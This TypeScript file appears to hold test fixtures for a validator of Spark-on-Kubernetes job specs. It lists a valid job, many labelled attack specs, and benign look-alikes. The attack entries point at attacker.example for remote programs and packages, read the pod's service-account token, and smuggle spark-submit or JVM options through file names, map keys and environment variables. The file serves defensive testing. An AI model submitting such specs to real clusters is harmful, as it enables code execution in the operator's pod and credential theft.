/** A job that breaks no rule. */
export const goodSpec = {
  type: "Scala",
  sparkVersion: "3.5.5",
  mode: "cluster",
  mainClass: "org.apache.spark.examples.SparkPi",
  mainApplicationFile: "local:///opt/spark/examples/jars/spark-examples.jar",
  driver: {},
  executor: {},
};

type Spec = Readonly<Record<string, unknown>>;
const sparkConf = (conf: Record<string, string>): Spec => ({ sparkConf: conf });
const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";

/**
 * Jobs that reach the operator's pod or lead past the budget: what each would do, the field that is blamed, and the
 * change of a good job.
 */
export const attacks: readonly (readonly [what: string, field: string, change: Spec])[] = [
  [
    "runs the program in the operator's pod",
    "mainApplicationFile",
    { mainApplicationFile: "--deploy-mode=client", arguments: ["http://attacker.example/evil.py"] },
  ],
  [
    "asks for more executors than it says",
    "mainApplicationFile",
    {
      mainApplicationFile: "--conf=spark.executor.instances=50",
      arguments: ["--conf=spark.executor.memory=8g", "local:///x.py"],
    },
  ],
  [
    "makes its arguments those of spark-submit",
    "mainApplicationFile",
    { mainApplicationFile: undefined, arguments: ["--deploy-mode=client", "http://attacker.example/evil.py"] },
  ],
  ["names no program", "mainApplicationFile", { mainApplicationFile: "" }],
  ["uploads a file of the operator's pod", "mainApplicationFile", { mainApplicationFile: `file://${token}` }],
  ["names a path of the operator's pod", "mainApplicationFile", { mainApplicationFile: token }],
  [
    "hides that path in a text that is not a URI",
    "mainApplicationFile",
    { mainApplicationFile: `local://a b/../../../..${token}` },
  ],
  ["has spark-submit open the program to find its class", "mainClass", { mainClass: undefined }],
  [
    "starts a shell, whose arguments are options",
    "mainClass",
    { mainClass: "org.apache.spark.repl.Main", arguments: ["--deploy-mode=client"] },
  ],
  [
    "starts a server, whose arguments are options",
    "mainClass",
    { mainClass: "org.apache.spark.sql.connect.service.SparkConnectServer", arguments: ["--deploy-mode=client"] },
  ],
  [
    "hides a shell from who looks for it",
    "mainClass",
    { mainClass: "org.apache.spark.repl\r.Main", arguments: ["--deploy-mode=client"] },
  ],
  ["runs in client mode", "mode", { mode: "client" }],
  ["acts as a user with the name of an option", "proxyUser", { proxyUser: "--conf" }],

  ["reads a file as a jar", "deps.jars[0]", { deps: { jars: [`file://${token}`] } }],
  ["reads a file as a module", "deps.pyFiles[0]", { deps: { pyFiles: [token] } }],
  ["reads a second file", "deps.files[0]", { deps: { files: [`https://example.com/a,file://${token}`] } }],
  [
    "reads a file by a text that is not a URI",
    "deps.files[0]",
    { deps: { files: [`https://a%/../../../../..${token}`] } },
  ],
  ["has the operator call a server", "deps.archives[0]", { deps: { archives: ["webhdfs://attacker.example/a.zip"] } }],
  ["expects wildcards on S3", "deps.jars[0]", { deps: { jars: ["s3a://bucket/*.jar"] } }],
  ["resolves packages in the operator's pod", "deps.packages[0]", { deps: { packages: ["evil:evil:1"] } }],
  ["gets them from anywhere", "deps.repositories[0]", { deps: { repositories: ["http://attacker.example"] } }],
  ...["spark.jars", "spark.files", "spark.archives", "spark.submit.pyFiles"].map(
    (key) =>
      [
        `reads a file by ${key}`,
        `sparkConf["${key}"]`,
        sparkConf({ [key]: `https://example.com/a,file://${token}` }),
      ] as const,
  ),
  ...["spark.jars.packages", "spark.jars.repositories", "spark.jars.ivySettings"].map(
    (key) => [`resolves packages by ${key}`, `sparkConf["${key}"]`, sparkConf({ [key]: "x" })] as const,
  ),

  ...[
    "spark.kubernetes.kerberos.krb5.path",
    "spark.kerberos.keytab",
    "spark.yarn.keytab",
    "spark.kubernetes.authenticate.driver.oauthTokenFile",
    "spark.kubernetes.authenticate.submission.caCertFile",
    "spark.kubernetes.authenticate.clientKeyFile",
    "spark.kubernetes.driver.podTemplateFile",
    "spark.kubernetes.executor.podTemplateFile",
  ].map((key) => [`publishes a file by ${key}`, `sparkConf["${key}"]`, sparkConf({ [key]: token })] as const),
  [
    "says where to upload files",
    'sparkConf["spark.kubernetes.file.upload.path"]',
    sparkConf({ "spark.kubernetes.file.upload.path": "webhdfs://attacker.example/" }),
  ],
  [
    "trusts any API server",
    'sparkConf["spark.kubernetes.trust.certificates"]',
    sparkConf({ "spark.kubernetes.trust.certificates": "true" }),
  ],
  [
    "holds a worker of the operator",
    'sparkConf["spark.kubernetes.submission.waitAppCompletion"]',
    sparkConf({ "spark.kubernetes.submission.waitAppCompletion": "true" }),
  ],
  [
    "loads a class in the operator's pod",
    'sparkConf["spark.hadoop.fs.s3a.impl"]',
    sparkConf({ "spark.hadoop.fs.s3a.impl": "org.apache.hadoop.hdfs.web.WebHdfsFileSystem" }),
  ],
  [
    "loads the same class by hadoopConf",
    'hadoopConf["fs.s3a.impl"]',
    { hadoopConf: { "fs.s3a.impl": "org.apache.hadoop.hdfs.web.WebHdfsFileSystem" } },
  ],
  [
    "changes the pod by a class",
    'sparkConf["spark.kubernetes.driver.pod.featureSteps"]',
    sparkConf({ "spark.kubernetes.driver.pod.featureSteps": "evil.Step" }),
  ],
  [
    "asks for pods by a class",
    'sparkConf["spark.kubernetes.allocation.pods.allocator"]',
    sparkConf({ "spark.kubernetes.allocation.pods.allocator": "evil.Allocator" }),
  ],
  [
    "goes to another namespace",
    'sparkConf["spark.kubernetes.namespace"]',
    sparkConf({ "spark.kubernetes.namespace": "kube-system" }),
  ],

  ...(
    [
      ["sparkConf", "spark.driver.extraJavaOptions=-Dspark.executor.instances=50 -Dx"],
      ["hadoopConf", "fs.s3a.path.style.access=true "],
      ["nodeSelector", "a=b"],
    ] as const
  ).map(
    ([map, key]) => [`hides a property in a key of ${map}`, `${map}["${key}"]`, { [map]: { [key]: "1" } }] as const,
  ),
  ...["envVars", "envSecretKeyRefs", "labels", "annotations", "serviceLabels", "serviceAnnotations"].map(
    (map) =>
      [
        `hides a property in a key of ${map}`,
        `driver.${map}["JAVA_TOOL_OPTIONS=-Dspark.executor.instances=50 -Dx"]`,
        {
          driver: {
            [map]: {
              "JAVA_TOOL_OPTIONS=-Dspark.executor.instances=50 -Dx":
                map === "envSecretKeyRefs" ? { name: "a", key: "b" } : "1",
            },
          },
        },
      ] as const,
  ),
  ["hides a property in a volume's name", "volumes[0].name", { volumes: [{ name: "spark-local-dir-1=x" }] }],
  ["hides one in a Secret's name", "driver.secrets[0].name", { driver: { secrets: [{ name: "a=b", path: "/x" }] } }],

  ...[
    "-Dspark.executor.instances=50",
    '-D"spark.executor.instances=50"',
    "-Dsp'ark.exec'utor.instances=50",
    "-Dspark\\.executor.instances=50",
    "-Dspa\rrk.executor.instances=50",
    "-Xss4m @/opt/spark/files/options",
    "-Xss4m\u2003@/opt/spark/files/options",
    '"@/opt/spark/files/options"',
    "-XX:VMOptionsFile=/opt/spark/files/options",
  ].flatMap((options) => [
    [
      `sets properties by Java's ${JSON.stringify(options)}`,
      "driver.javaOptions",
      { driver: { javaOptions: options } },
    ] as const,
    [
      `sets properties by the environment's ${JSON.stringify(options)}`,
      "driver.env[0].value",
      { driver: { env: [{ name: "JDK_JAVA_OPTIONS", value: options }] } },
    ] as const,
  ]),
  [
    "sets properties by default options",
    'sparkConf["spark.driver.defaultJavaOptions"]',
    sparkConf({ "spark.driver.defaultJavaOptions": "-Dspark.executor.instances=50" }),
  ],
  ["sets properties by a ConfigMap", "sparkConfigMap", { sparkConfigMap: "conf" }],
  [
    "sets properties by a ConfigMap's variables",
    "driver.envFrom[0].prefix",
    { driver: { envFrom: [{ configMapRef: { name: "options" } }] } },
  ],
  [
    "sets properties by variables with half a name",
    "driver.envFrom[0].prefix",
    { driver: { envFrom: [{ prefix: "JAVA_", configMapRef: { name: "options" } }] } },
  ],
  [
    "sets properties by variables of a template",
    "driver.template.spec.containers[0].envFrom[0].prefix",
    { driver: { template: { spec: { containers: [{ envFrom: [{ configMapRef: { name: "options" } }] }] } } } },
  ],
  ...(["SPARK_EXECUTOR_MEMORY", "JAVA_TOOL_OPTIONS"] as const).flatMap((name) => {
    const value = "-Dspark.executor.instances=50";
    return (
      [
        ["env[0].value", { env: [{ name, value }] }],
        ["env[0].valueFrom", { env: [{ name, valueFrom: {} }] }],
        [
          "template.spec.containers[0].env[0].value",
          { template: { spec: { containers: [{ env: [{ name, value }] }] } } },
        ],
        [`envVars.${name}`, { envVars: { [name]: value } }],
        [`envSecretKeyRefs.${name}`, { envSecretKeyRefs: { [name]: { name: "a", key: "b" } } }],
      ] as const
    ).map(([field, driver]) => [`gets ${name} by driver.${field}`, `driver.${field}`, { driver }] as const);
  }),
  ...["driverEnv.SPARK_EXECUTOR_CORES", "driver.secretKeyRef.SPARK_CONF_DIR"].map((property) => {
    const key = `spark.kubernetes.${property}`;
    return [`gets a variable by ${key}`, `sparkConf["${key}"]`, sparkConf({ [key]: "8" })] as const;
  }),
  ...["driverEnv.JAVA_TOOL_OPTIONS", "driver.secretKeyRef.SPARK_SUBMIT_OPTS"].map((property) => {
    const key = `spark.kubernetes.${property}`;
    return [`gets options by ${key}`, `sparkConf["${key}"]`, sparkConf({ [key]: "-Dspark.x=1" })] as const;
  }),
];

/** What looks like it and is ordinary. */
export const ordinary: readonly (readonly [what: string, change: Spec])[] = [
  ["a Python program in S3", { mainApplicationFile: "s3a://bucket/job.py", mainClass: undefined, mode: undefined }],
  ["a program of a Google bucket", { mainApplicationFile: "gs://bucket/job%20one.jar" }],
  ["arguments that look like options", { arguments: ["--deploy-mode=client", "--conf", "a=b"] }],
  [
    "jars and modules that the driver fetches",
    {
      deps: {
        jars: ["s3a://bucket/a.jar", "https://repo.example/a.jar?version=1", "local:///opt/a.jar"],
        pyFiles: ["s3a://bucket/a.zip"],
        files: ["s3a://bucket/site.xml#hive-site.xml"],
      },
    },
  ],
  ["a list of them in a property", sparkConf({ "spark.jars": "s3a://bucket/a.jar, local:///opt/b.jar" })],
  ["no list", sparkConf({ "spark.jars": "" })],
  ["Hadoop's class for S3", sparkConf({ "spark.hadoop.fs.s3a.impl": "org.apache.hadoop.fs.s3a.S3AFileSystem" })],
  ["a keytab of the driver's", sparkConf({ "spark.kerberos.keytab": "local:///etc/krb5/job.keytab" })],
  ["a Kerberos configuration in a ConfigMap", sparkConf({ "spark.kubernetes.kerberos.krb5.configMapName": "krb5" })],
  [
    "accounts of driver and executors",
    sparkConf({
      "spark.kubernetes.authenticate.driver.serviceAccountName": "spark-application-sa",
      "spark.kubernetes.authenticate.executor.serviceAccountName": "spark-executor-sa",
    }),
  ],
  ["metrics of any instance", sparkConf({ "spark.metrics.conf.*.sink.prometheusServlet.class": "a.B" })],
  [
    "quotes and addresses in Java's options",
    { driver: { javaOptions: '-XX:OnOutOfMemoryError="kill -9 %p" -Dcontact=a@example.com' } },
  ],
  [
    "options of a JVM in the environment",
    {
      driver: {
        env: [
          { name: "JAVA_TOOL_OPTIONS", value: "-Xss4m" },
          { name: "A", valueFrom: { fieldRef: { fieldPath: "status.podIP" } } },
        ],
      },
    },
  ],
  ["variables of another prefix", { driver: { envFrom: [{ prefix: "DB_", secretRef: { name: "database" } }] } }],
  ["variables of executors, which change no pod", { executor: { envFrom: [{ secretRef: { name: "database" } }] } }],
  ["labels and annotations", { driver: { labels: { "app.kubernetes.io/name": "a" }, annotations: { "a.b/c": "=" } } }],
  [
    "a file of the template that the operator writes",
    {
      driver: { template: { spec: { containers: [{ name: "spark-kubernetes-driver" }] } } },
      sparkConf: { "spark.kubernetes.driver.podTemplateFile": "/x" },
    },
  ],
];
